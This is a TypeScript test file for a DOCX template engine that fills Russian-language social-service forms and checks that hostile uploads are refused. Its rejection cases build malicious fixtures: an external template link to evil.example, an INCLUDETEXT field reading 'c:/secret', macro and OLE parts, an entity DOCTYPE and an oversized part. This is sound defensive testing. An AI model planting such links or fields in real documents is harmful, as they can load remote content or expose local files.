import { expect, test } from 'vitest'
import { docxFault } from '../../src/adapters/files/docx/docx-guard.ts'
import { ownFormEngine } from '../../src/adapters/print/docx/own-form.ts'
import { printPaperDocx } from '../../src/adapters/print/docx/paper-docx.ts'
import { composingOf, wordsOfPaper } from '../../src/application/forms/print-form.ts'
import { MOST_OWN_FORM_BYTES } from '../../src/application/ports/own-forms.ts'
import { composePaper } from '../../src/domain/forms/compose-paper.ts'
import type { Form } from '../../src/domain/forms/form.ts'
import { judgeTags, tagsOfForm } from '../../src/domain/forms/form-tags.ts'
import { sampleValues, starterPaper, tagValues } from '../../src/domain/forms/tag-values.ts'
import { CONTENT } from '../support/content.ts'
import { cardOf, caseOf, emptyGround, RUSSIAN } from '../support/paper-ground.ts'
import { docxTexts, packageOf, packageParts } from '../support/read-paper.ts'

const ENGINE = ownFormEngine(docxFault)

const FORMS = [...CONTENT.forms.values()].filter(({ formats }) => formats.includes('docx'))

const formOf = (id: string): Form => {
  const form = CONTENT.forms.get(id)
  if (!form) throw new RangeError(`no form ${id}`)
  return form
}

const blankOf = (form: Form) => ({
  form,
  known: { fields: {}, ticks: {}, lists: {} },
  words: wordsOfPaper(RUSSIAN, 'ru'),
})

/** What a head is given to begin with. */
const starter = (form: Form): Promise<Uint8Array> => {
  const composing = blankOf(form)
  const blank = composePaper(form, composing.known, composing.words, { large: false })
  return printPaperDocx(starterPaper(composing, blank))
}

const partsOf = async (bytes: Uint8Array) => [...(await packageParts(bytes))]

/** The same file with some of its parts changed or added. */
const changed = async (
  bytes: Uint8Array,
  change: (name: string, text: string) => string,
  added: readonly (readonly [string, string])[] = [],
): Promise<Uint8Array> =>
  packageOf([...(await partsOf(bytes)).map(([name, text]) => [name, change(name, text)] as const), ...added])

const plan = formOf('ippsu_proposals')
const same = (_: string, text: string): string => text

test('what every form begins with names each of its places once, and knows them all', async () => {
  for (const form of FORMS) {
    const { single, lists } = tagsOfForm(form)
    const names = [...single, ...lists].map(({ tag }) => tag)
    expect(new Set(names).size, form.id).toBe(names.length)
    const read = await ENGINE.read(await starter(form))
    expect('tags' in read && judgeTags(form, read.tags), form.id).toEqual({ unknown: [], missing: [] })
  }
})

test('a strange tag is named with its line, a left out one by its name; a table within its own only', async () => {
  const bytes = await changed(await starter(plan), (name, text) =>
    name === 'word/document.xml'
      ? text.replace('{{who}}', '{{fio}}').replace('{{address}}', '{{often}}')
      : text,
  )
  const read = await ENGINE.read(bytes)
  const { unknown, missing } = judgeTags(plan, 'tags' in read ? read.tags : [])
  expect(unknown).toEqual([
    { name: 'fio', kind: 'single', around: 'Гражданин: {{fio}}' },
    { name: 'often', kind: 'single', around: 'Адрес: {{often}}' },
  ])
  expect(missing.map(({ tag }) => tag)).toEqual(['who', 'address'])
})

test('whatever is typed stays text: tags, markup, formulas; rows of a table are repeated', async () => {
  const typed = '{{born}} {{/services}} <w:p>x</w:p> =HYPERLINK("a") & «Ёж»'
  const service = {
    id: 's1',
    kind: 'legal' as const,
    what: typed,
    provider: 'Бюро',
    often: 'once' as const,
    until: null,
    look: null,
  }
  const ground = emptyGround({
    citizen: cardOf({ name: typed, birthDate: '1955-03-08' }),
    case: caseOf({ services: [service, { ...service, id: 's2', what: 'Вторая' }] }),
  })
  const values = tagValues(composingOf(plan, ground, { language: 'ru', renderer: RUSSIAN }))
  const filled = await ENGINE.fill(await starter(plan), values)
  const [text = ''] = docxTexts([['own.docx', filled]])
  expect(text.split('{{born}} {{/services}} <w:p>x</w:p> =HYPERLINK("a") & «Ёж»')).toHaveLength(4)
  expect(text).toContain('Вторая')
  expect(text).toContain('08.03.1955')
  const sample = await ENGINE.fill(await starter(plan), sampleValues(blankOf(plan)))
  expect((await packageParts(sample)).get('word/document.xml')).toContain('‹Гражданин›')
})

/** A package one part of which unpacks to far more than it says of itself. */
const bomb = async (): Promise<Uint8Array> =>
  changed(await starter(plan), same, [['word/more.xml', ' '.repeat(30 * 1_048_576)]])

const named = (part: string) => async () => changed(await starter(plan), same, [[part, 'x']])

const inDocument = (words: string) => async () =>
  changed(await starter(plan), (name, text) =>
    name === 'word/document.xml' ? text.replace('{{who}}', words) : text,
  )

const external = async () =>
  changed(await starter(plan), (name, text) =>
    name === 'word/_rels/document.xml.rels'
      ? text.replace(
          '</Relationships>',
          '<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
        )
      : text,
  )

test.each([
  ['not_docx', async () => Buffer.from('%PDF-1.7')],
  ['not_docx', async () => packageOf([['a.txt', 'hello']])],
  ['too_big', async () => Buffer.alloc(MOST_OWN_FORM_BYTES + 1, 'PK')],
  ['damaged', async () => (await starter(plan)).slice(0, 3000)],
  ['damaged', bomb],
  ['damaged', async () => changed(await starter(plan), same, [['word/document.xml', '<w:document/>']])],
  ['damaged', async () => changed(await starter(plan), (_, text) => `<!DOCTYPE a [<!ENTITY b "c">]>${text}`)],
  ['macros', named('word/vbaProject.bin')],
  ['embedded', named('word/embeddings/oleObject1.xml')],
  ['links', external],
  [
    'links',
    inDocument('</w:t></w:r><w:r><w:instrText>INCLUDETEXT "c:/secret"</w:instrText></w:r><w:r><w:t>'),
  ],
  ['broken_tag', inDocument('{{#services}}')],
  ['broken_tag', inDocument('{{who')],
  ['no_tags', async () => printPaperDocx(composePaper(plan, blankOf(plan).known, blankOf(plan).words))],
] as const)('refused kindly: %s', async (why, make) => {
  const read = await ENGINE.read(await make())
  expect(read).toMatchObject({ refused: why })
})
